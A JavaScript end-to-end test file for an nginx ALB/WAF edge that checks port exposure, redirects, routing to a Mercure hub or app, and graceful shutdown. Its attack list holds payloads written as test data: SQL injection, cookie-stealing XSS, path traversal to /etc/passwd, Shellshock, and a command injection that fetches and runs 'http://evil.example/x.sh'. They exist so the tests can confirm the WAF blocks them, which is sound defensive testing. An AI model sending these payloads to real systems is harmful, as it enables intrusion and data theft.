// The edge in front of the task, as the ALB + WAF: only it is reachable from outside, it routes
// like the ALB listener rules, it blocks common attack payloads before they reach the task, it
// lets the product's own traffic through, and the three executables stop cleanly on SIGTERM.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, test } from 'node:test';

import { EdgeClient, tcpConnects } from './lib/edge_client.mjs';
import { EDGE_PORTS, ProductionLikeStack, TASK_PORTS } from './lib/production_like_stack.mjs';

const requestId = (label) => `e2e-${label}-${randomBytes(6).toString('hex')}`;

describe('edge (ALB + WAF) in front of the task', () => {
  let stack;
  let edge;

  before(async () => {
    stack = await ProductionLikeStack.start({ model: 'demo' });
    edge = EdgeClient.forStack(stack);
  });

  after(async () => {
    if (stack) await stack.stop();
  });

  // nginx writes the access log line just after the response, so the client may be first.
  async function edgeLine(id) {
    for (let waited = 0; waited < 3000; waited += 50) {
      const line = stack.edgeAccessLog().find((l) => l.request_id === id);
      if (line) return line;
      await new Promise((r) => setTimeout(r, 50));
    }
    return undefined;
  }

  test('only the edge port is reachable from the host; the task ports answer only inside', async () => {
    const address = stack.namespace.taskAddress;
    assert.equal(await tcpConnects(address, EDGE_PORTS.https), true, 'edge HTTPS port');
    assert.equal(await tcpConnects(address, EDGE_PORTS.http), true, 'edge HTTP port (redirects)');
    for (const [name, port] of Object.entries(TASK_PORTS)) {
      if (!stack.processes[name]) continue; // not part of this run (the fake Bedrock, Redis)
      assert.equal(await tcpConnects(address, port), false, `${name} port ${port} must not be reachable from the host`);
    }
    // The same ports do answer inside the task, so the refusals above are the layout, not a
    // process that is down.
    for (const name of ['app', 'agent', 'hub']) {
      const res = await stack.insideHttp(`http://127.0.0.1:${TASK_PORTS[name]}/healthz`);
      assert.equal(res.status, 200, `${name} healthy inside the task`);
    }
  });

  test('plain HTTP is redirected to HTTPS, keeping the path', async () => {
    const res = await edge.request('GET', '/some/page?x=1', { plainHttp: true });
    assert.equal(res.status, 301);
    assert.equal(res.headers.location, `https://${stack.namespace.taskAddress}/some/page?x=1`);
  });

  test('the health check through the edge is answered by the app over TLS', async () => {
    const id = requestId('health');
    const res = await edge.request('GET', '/healthz', { headers: { 'X-Request-Id': id } });
    assert.equal(res.status, 200);
    assert.deepEqual(res.json, { status: 'ok' });
    assert.equal((await edgeLine(id)).upstream, `127.0.0.1:${TASK_PORTS.app}`);
  });

  test('the Mercure path goes to the hub and everything else to the app', async () => {
    const cases = [
      ['/.well-known/mercure?topic=%2Fusers%2Falice%2Fsessions%2Fs1', TASK_PORTS.hub],
      ['/.well-known/mercure/subscriptions', TASK_PORTS.hub],
      ['/api/sessions', TASK_PORTS.app],
      ['/', TASK_PORTS.app],
      ['/.well-known/other', TASK_PORTS.app],
    ];
    for (const [path, port] of cases) {
      const id = requestId('route');
      const res = await edge.request('GET', path, {
        headers: { 'X-Request-Id': id, Authorization: `Bearer ${stack.users.alice}` },
        timeoutMs: 5000,
      }).catch(() => null);
      // A subscription that the hub accepts stays open until the client gives up; nginx logs it
      // then (status 499), still with the upstream it used.
      void res;
      const line = await edgeLine(id);
      assert.ok(line, `the edge logged ${path}`);
      assert.equal(line.upstream, `127.0.0.1:${port}`, `${path} routed to port ${port}`);
    }
  });

  const attacks = [
    ['SQL injection in a query parameter', 'GET', "/api/sessions?cursor=1%27%20OR%20%271%27%3D%271%27%20--", {}],
    ['SQL injection with UNION SELECT', 'GET', '/api/sessions?limit=1%20UNION%20SELECT%20password%20FROM%20users', {}],
    ['cross-site scripting in a query parameter', 'GET', '/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', {}],
    ['path traversal to a system file', 'GET', '/static?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd', {}],
    ['shell command injection in a JSON body', 'POST', '/api/sessions/s1/messages', {
      body: { text: 'hi; cat /etc/passwd; wget http://evil.example/x.sh | sh' },
    }],
    ['Shellshock in a header', 'GET', '/api/sessions', { headers: { 'User-Agent': '() { :; }; /bin/bash -c "id"' } }],
    ['a known attack scanner', 'GET', '/api/sessions', { headers: { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }],
    ['cross-site scripting aimed at the hub', 'GET', '/.well-known/mercure?topic=%3Cscript%3Ealert(1)%3C%2Fscript%3E', {}],
  ];

  for (const [name, method, path, opts] of attacks) {
    test(`the WAF blocks ${name} before it reaches the task`, async () => {
      const id = requestId('attack');
      const headers = { 'X-Request-Id': id, Authorization: `Bearer ${stack.users.alice}`, ...(opts.headers || {}) };
      const res = await edge.request(method, path, { headers, body: opts.body });
      assert.equal(res.status, 403, `${name}: status ${res.status} body ${res.body.slice(0, 200)}`);
      const line = await edgeLine(id);
      assert.ok(line, 'the edge logged the request');
      assert.equal(line.upstream, '', 'no upstream was contacted');
      for (const exe of ['app', 'hub', 'agent']) {
        assert.deepEqual(stack.logLinesWithRequestId(exe, id), [], `${exe} never saw it`);
      }
    });
  }

  const legitimate = [
    ['creating a session', 'POST', '/api/sessions', { body: {} }],
    ['sending a message with code and punctuation', 'POST', '/api/sessions/s1/messages', {
      body: { text: "How do I read a file line by line in C++? I tried std::ifstream f(\"data.txt\"); and it's empty - why?" },
    }],
    ['renaming a session', 'PATCH', '/api/sessions/s1', { body: { title: 'Trip to Lisbon: 3 days, museums & food' } }],
    ['deleting a session', 'DELETE', '/api/sessions/s1', {}],
    ['listing sessions with a cursor', 'GET', '/api/sessions?limit=20&cursor=eyJrIjoiMDFKOVoifQ', {}],
    ['stopping a turn', 'POST', '/api/sessions/s1/cancel', { body: {} }],
  ];

  for (const [name, method, path, opts] of legitimate) {
    test(`the WAF lets the product's own traffic through: ${name}`, async () => {
      const id = requestId('legit');
      const res = await edge.request(method, path, {
        headers: { 'X-Request-Id': id, Authorization: `Bearer ${stack.users.alice}`, Origin: stack.edgeUrl },
        body: opts.body,
      });
      // The app may refuse it (a session that does not exist); what matters is that the WAF
      // passed it on.
      const line = await edgeLine(id);
      assert.equal(line.upstream, `127.0.0.1:${TASK_PORTS.app}`, `${name} did not reach the app: ${res.status} ${res.body.slice(0, 200)}`);
      assert.equal(line.status, res.status, 'the status is the app\'s own');
    });
  }

  test('SIGTERM to the three executables: each exits 0 inside its drain time', async () => {
    const drainMs = stack.drainMs;
    const results = await stack.terminateExecutables({ graceMs: drainMs + 5000 });
    for (const [name, r] of Object.entries(results)) {
      assert.equal(r.killed, false, `${name} had to be killed`);
      assert.equal(r.signal, null, `${name} died of a signal`);
      assert.equal(r.code, 0, `${name} exit code; log:\n${stack.processes[name].logTail()}`);
      assert.ok(r.elapsedMs < drainMs, `${name} took ${r.elapsedMs} ms`);
    }
    // With the task gone the edge answers 502 rather than hanging.
    const res = await edge.request('GET', '/healthz');
    assert.equal(res.status, 502);
  });
});
